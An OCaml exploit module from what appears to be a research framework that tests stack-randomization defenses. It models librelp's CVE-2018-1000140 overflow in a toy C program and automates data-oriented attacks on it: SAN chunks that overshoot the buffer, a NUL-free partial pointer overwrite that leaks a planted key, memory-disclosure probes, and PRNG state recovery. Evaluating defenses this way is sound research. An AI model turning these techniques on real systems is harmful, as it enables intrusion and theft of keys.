let key_string = "K3Y:0123456789abcdef0123456789ab"

let source =
  {|
// Placement shim: keeps the private key's address free of zero bytes in
// its low three bytes, so the exploit's NUL-terminated write can forge
// a pointer to it (real exploits pick targets the same way).
const char ropad[769] = "r";
const char decoy_tag[40] = "relp-session-0";
const char private_key[33] = "K3Y:0123456789abcdef0123456789ab";

// gnutls_x509_crt_get_subject_alt_name stand-in: each call yields the
// next SAN of the attacker-supplied certificate, or <0 when exhausted.
long get_subject_alt_name(char *out) {
  long n = read_input(out, 2047);
  if (n <= 0) return 0 - 1;
  out[n] = 0;
  return 1;
}

void relpTcpChkOnePeerName(char *name, long *pbFound) {
  if (strlen(name) == 11) {
    if (memcmp(name, "relp.victim", 11) == 0) *pbFound = 1;
  }
}

// CVE-2018-1000140: snprintf returns the length it WOULD have written;
// once iAllNames crosses sizeof(allNames), the size argument goes
// negative and, consumed as size_t, unbounds the next write at an
// attacker-chosen offset.
// (allNames sits above szAltName in the frame, as in the shipped
// librelp binaries: the gap write lands directly in the caller.)
void relpTcpChkPeerName() {
  char allNames[4096];
  char szAltName[2048];
  long iAllNames = 0;
  long bFoundPositiveMatch = 0;
  long gnuRet = 0;
  int iAltName = 0;
  short sanKind = 0;
  while (bFoundPositiveMatch == 0) {
    gnuRet = get_subject_alt_name(szAltName);
    if (gnuRet < 0) break;
    sanKind = 2;
    iAllNames += snprintf_cat(allNames + iAllNames, 4096 - iAllNames, szAltName);
    relpTcpChkOnePeerName(szAltName, &bFoundPositiveMatch);
    iAltName += sanKind - 1;
  }
}

// Socket-initialization loop: the DOP gadget dispatcher.  Session
// bookkeeping dereferences and advances keyPtr — a LOAD gadget feeding
// the error log, the exploit's exfiltration channel.
void relpTcpLstnInit() {
  long sessCount = 0;
  long leakAcc = 0;
  char *keyPtr = (char*)decoy_tag;
  int lstnPort = 2514;
  short family = 2;
  char lstnAddr[24];
  strcpy(lstnAddr, "0.0.0.0");
  while (sessCount < 4) {
    relpTcpChkPeerName();
    leakAcc = *(long*)keyPtr;
    print_int(leakAcc);
    print_char(32);
    keyPtr = keyPtr + 8;
    sessCount += lstnPort / 2514;
    family = 2;
  }
}

int main() { relpTcpLstnInit(); return 0; }
|}

let program = lazy (Minic.Driver.compile source)

let u64_of_prefix s =
  let v = ref 0L in
  for i = 7 downto 0 do
    v := Int64.logor (Int64.shift_left !v 8) (Int64.of_int (Char.code s.[i]))
  done;
  !v

let key_leak_marker = Int64.to_string (u64_of_prefix key_string)
let benign_chunks = [ "mail.example.com"; "relp.victim" ]

let caller_slots =
  [
    ("sessCount", 8, 8); ("leakAcc", 8, 8); ("keyPtr", 8, 8); ("lstnPort", 4, 4);
    ("family", 2, 2); ("lstnAddr", 24, 1);
  ]

let callee_slots =
  [
    ("allNames", 4096, 1); ("szAltName", 2048, 1); ("iAllNames", 8, 8);
    ("bFoundPositiveMatch", 8, 8); ("gnuRet", 8, 8); ("iAltName", 4, 4);
    ("sanKind", 2, 2);
  ]

let all_names_size = 4096
let max_san = 2047

(* Certificate assembly: pad SANs walk iAllNames to the jump point, the
   jump SAN overshoots the buffer (its own write is still truncated —
   harmless), and the payload SAN lands unbounded at exactly
   [allNames + dist]. *)
let exploit_chunks ~dist ~payload =
  if dist <= all_names_size then
    invalid_arg "librelp exploit: target not beyond the buffer";
  if String.contains payload '\000' then
    invalid_arg "librelp exploit: payload would be cut by its own NUL";
  let jump_from = max 0 (dist - max_san) in
  if jump_from > all_names_size - 1 then
    invalid_arg "librelp exploit: target beyond single-jump reach";
  let jump_len = dist - jump_from in
  let rec pads acc cur =
    if cur >= jump_from then List.rev acc
    else
      let len = min 2000 (jump_from - cur) in
      pads (String.make len 'P' :: acc) (cur + len)
  in
  pads [] 0 @ [ String.make jump_len 'J'; payload ]

(* The payload: redirect keyPtr's low bytes at the private key.  The
   write is [bytes][NUL], so it covers the low |bytes|+1 bytes of the
   pointer; the remaining high bytes must already match (same segment). *)
let key_ptr_payload prog =
  let gaddrs = Attacks.Layout.global_addrs prog in
  let key = List.assoc "private_key" gaddrs in
  let decoy = List.assoc "decoy_tag" gaddrs in
  let byte a i = (a lsr (8 * i)) land 0xff in
  (* Writing w bytes + NUL rewrites pointer bytes 0..w: we need the
     key's low w bytes NUL-free, its byte w to BE zero (absorbing the
     terminator), and the decoy to already agree on every higher
     byte. *)
  let viable w =
    byte key w = 0
    && (let ok = ref true in
        for i = 0 to w - 1 do
          if byte key i = 0 then ok := false
        done;
        !ok)
    &&
    let ok = ref true in
    for i = w + 1 to 7 do
      if byte key i <> byte decoy i then ok := false
    done;
    !ok
  in
  let rec width w =
    if w > 7 then
      invalid_arg "librelp exploit: no NUL-compatible pointer rewrite"
    else if viable w then w
    else width (w + 1)
  in
  let w = width 1 in
  String.init w (fun i -> Char.chr (byte key i))

let chain = [ "main"; "relpTcpLstnInit"; "relpTcpChkPeerName" ]

(* Distance from allNames to keyPtr by static binary analysis; against
   Smokestack only the slab positions are visible and the intra-slab
   offsets are guessed. *)
let static_distance (applied : Defenses.Defense.applied) ~seed =
  let rows = Attacks.Layout.chain applied.prog chain in
  match
    Attacks.Layout.distance rows
      ~from_:("relpTcpChkPeerName", "allNames")
      ~to_:("relpTcpLstnInit", "keyPtr")
  with
  | Some d -> d
  | None -> (
      let slab f =
        Attacks.Layout.distance rows ~from_:(f, "__ss_total")
          ~to_:("relpTcpChkPeerName", "__ss_total")
      in
      match slab "relpTcpLstnInit" with
      | None -> invalid_arg "librelp exploit: no frame information"
      | Some slab_gap ->
          let rng = Sutil.Simrng.create ~seed in
          let callee_guess =
            Dopkit.guessed_slab_offsets ~slots:callee_slots ~vars:[ "allNames" ]
              ~fid_slot:true ~seed:(Sutil.Simrng.next_u64 rng)
          in
          let caller_guess =
            Dopkit.guessed_slab_offsets ~slots:caller_slots ~vars:[ "keyPtr" ]
              ~fid_slot:true ~seed:(Sutil.Simrng.next_u64 rng)
          in
          (* distance = (caller slab + keyPtr) - (callee slab + allNames);
             slab_gap is callee-relative-to-caller, negative. *)
          List.assoc "keyPtr" caller_guess - slab_gap
          - List.assoc "allNames" callee_guess)

let attack_static ~backend applied ~seed =
  Dopkit.deliver ~backend applied ~seed ~marker:key_leak_marker (fun () ->
      let dist = static_distance applied ~seed in
      let payload = key_ptr_payload (applied : Defenses.Defense.applied).prog in
      exploit_chunks ~dist ~payload)

(* Probe run: plant 'P'*100 then "PROBEVAL" (contiguous in allNames
   only), scan the live stack for the composite needle and for the
   decoy pointer value, and measure the true allNames -> keyPtr
   distance.  Exploit run: replay with the measured distance. *)
let attack_disclosure ~backend applied ~seed =
  let measured = ref None in
  let phase = ref 0 in
  let probe_input (st : Machine.Exec.state) _max =
    incr phase;
    match !phase with
    | 1 -> String.make 100 'P'
    | 2 -> "PROBEVAL"
    | _ ->
        (if Option.is_none !measured then
           let base, len = Attacks.Disclosure.live_stack st in
           let needle = String.make 8 'P' ^ "PROBEVAL" in
           match Attacks.Disclosure.find_bytes st ~base ~len needle with
           | [ hit ] -> (
               let all_names_addr = base + hit + 8 - 100 in
               let gaddrs = Attacks.Layout.global_addrs st.prog in
               let decoy = List.assoc "decoy_tag" gaddrs in
               match
                 Attacks.Disclosure.find_u64 st ~base ~len (Int64.of_int decoy)
               with
               | [ p ] -> measured := Some (base + p - all_names_addr)
               | _ -> ())
           | _ -> ());
        ""
  in
  let (_ : Machine.Exec.outcome * Machine.Exec.stats) =
    Runner.run_adaptive ~backend applied ~seed ~input:probe_input
  in
  match !measured with
  | None -> Attacks.Verdict.No_effect
  | Some dist ->
      (Dopkit.deliver ~backend applied ~seed:(Int64.add seed 1L)
         ~marker:key_leak_marker (fun () ->
           exploit_chunks ~dist
             ~payload:(key_ptr_payload (applied : Defenses.Defense.applied).prog)))
        .verdict

(* State-disclosure prediction (threat model §III-B: the attacker reads
   all writable memory — including a memory-based PRNG's state, which
   is why the paper rules the `pseudo` scheme out).

   Draw schedule at the moment the first SAN is requested:
     draw 1  relpTcpLstnInit prologue   (caller layout)
     draw 2  relpTcpChkPeerName prologue (callee layout)
     draw 3  get_subject_alt_name prologue
   The disclosed word is the state after draw 3; xorshift is a
   bijection, so two [unstep]s recover the states behind draws 1 and 2,
   and the public decode maps each to its frame's exact offsets. *)
let attack_pseudo_state ~backend (applied : Defenses.Defense.applied) ~seed =
  let exploit = ref [] in
  let caller_off = ref None in
  let gave_up = ref false in
  let delivered = ref false in
  (* attacker-side reconstruction of a dynamic binding from public
     knowledge: source slot list + the defense's design *)
  let dyn fname slots =
    let metas =
      Array.of_list
        (List.map (fun (_, size, align) -> (size, align)) slots @ [ (8, 8) ])
    in
    let n = Array.length metas in
    {
      Smokestack.Pbox.dyn_id = 0;
      dfunc = fname;
      metas;
      scratch_bytes = Sutil.Align.align_up (4 * n) ~alignment:16;
      dyn_max_total = max_int;
    }
  in
  let input (st : Machine.Exec.state) _max =
    (* once the payload is out, end the certificate: the callee must
       return for the dispatcher loop to fire the leak gadget *)
    (if !exploit = [] && (not !gave_up) && not !delivered then
       match
         let state_addr =
           Machine.Exec.global_addr st Smokestack.Abi.prng_state_global
         in
         let s_cur = Machine.Memory.load st.mem ~width:8 state_addr in
         (* the last draw before this read was get_subject_alt_name's
            prologue; the one before that, the callee's *)
         let s_callee = Rng.Pseudo.unstep s_cur in
         let prog = st.prog in
         (if Option.is_none !caller_off then
            (* first invocation: one more unstep reaches the caller's
               prologue draw, whose layout is fixed for the whole run *)
            let s_caller = Rng.Pseudo.unstep s_callee in
            caller_off :=
              Some
                (Smokestack.Runtime.dynamic_offsets_for_draw
                   (dyn "relpTcpLstnInit" caller_slots)
                   (Rng.Pseudo.output s_caller)).(2) (* keyPtr: index 2 *));
         let callee_off =
           (Smokestack.Runtime.dynamic_offsets_for_draw
              (dyn "relpTcpChkPeerName" callee_slots)
              (Rng.Pseudo.output s_callee)).(0) (* allNames: index 0 *)
         in
         let rows = Attacks.Layout.chain prog chain in
         let slab_gap =
           match
             Attacks.Layout.distance rows
               ~from_:("relpTcpChkPeerName", "__ss_total")
               ~to_:("relpTcpLstnInit", "__ss_total")
           with
           | Some g -> g
           | None -> invalid_arg "not a smokestack binary"
         in
         let dist = slab_gap + Option.get !caller_off - callee_off in
         exploit_chunks ~dist ~payload:(key_ptr_payload prog)
       with
       | chunks -> exploit := chunks
       | exception Invalid_argument _ ->
           (* this invocation's layout is out of single-jump reach (or
              this is not a pseudo build): end the certificate early and
              wait for the dispatcher to re-enter the callee with a
              fresh layout *)
           if Option.is_none !caller_off then gave_up := true);
    match !exploit with
    | chunk :: rest ->
        exploit := rest;
        if rest = [] then delivered := true;
        chunk
    | [] -> ""
  in
  let outcome, stats = Runner.run_adaptive ~backend applied ~seed ~input in
  Attacks.Verdict.classify outcome
    ~goal_met:(Dopkit.goal_in_output key_leak_marker stats)

(* Same-run probe-then-exploit: plant markers during the first callee
   invocation, measure the true allNames -> keyPtr distance by
   disclosure, then deliver the exploit in a LATER invocation of the
   same process.  Against per-invocation randomization the measured
   distance expires before it can be used; against periodic
   re-randomization (redraw_interval > 1) the window stays open — the
   E11 ablation.  Works against every static defense too. *)
let attack_probe_then_exploit ~backend (applied : Defenses.Defense.applied)
    ~seed =
  (* Probe invocation k: plant a unique marker ("PROBExyz" so stale
     markers from earlier probes cannot alias), measure the live
     distance; if it is beyond the gap jump's reach, give the window a
     chance to roll and probe again next invocation.  Exploit as soon
     as a reachable distance is measured. *)
  let probe_round = ref 0 in
  let step = ref `Plant_pad in
  let exploit = ref [] in
  let delivered = ref false in
  let marker k = Printf.sprintf "PROBE%03d" (k mod 1000) in
  let input (st : Machine.Exec.state) _max =
    if !delivered then ""
    else
      match !step with
      | `Plant_pad ->
          step := `Plant_marker;
          String.make 100 'P'
      | `Plant_marker ->
          step := `Measure;
          marker !probe_round
      | `Measure ->
          (let base, len = Attacks.Disclosure.live_stack st in
           let needle = String.make 8 'P' ^ marker !probe_round in
           let gaddrs = Attacks.Layout.global_addrs st.prog in
           let decoy = List.assoc "decoy_tag" gaddrs in
           match
             ( Attacks.Disclosure.find_bytes st ~base ~len needle,
               Attacks.Disclosure.find_u64 st ~base ~len (Int64.of_int decoy) )
           with
           | [ hit ], [ p ] -> (
               let dist = (base + p) - (base + hit + 8 - 100) in
               match
                 exploit_chunks ~dist ~payload:(key_ptr_payload st.prog)
               with
               | chunks ->
                   exploit := chunks;
                   step := `Exploit
               | exception Invalid_argument _ ->
                   incr probe_round;
                   step := `Plant_pad)
           | _ ->
               incr probe_round;
               step := `Plant_pad);
          (* end this invocation either way: the exploit (or the next
             probe) needs a fresh callee frame *)
          ""
      | `Exploit -> (
          match !exploit with
          | chunk :: rest ->
              exploit := rest;
              if rest = [] then delivered := true;
              chunk
          | [] -> "")
  in
  let outcome, stats = Runner.run_adaptive ~backend applied ~seed ~input in
  Attacks.Verdict.classify outcome
    ~goal_met:(Dopkit.goal_in_output key_leak_marker stats)
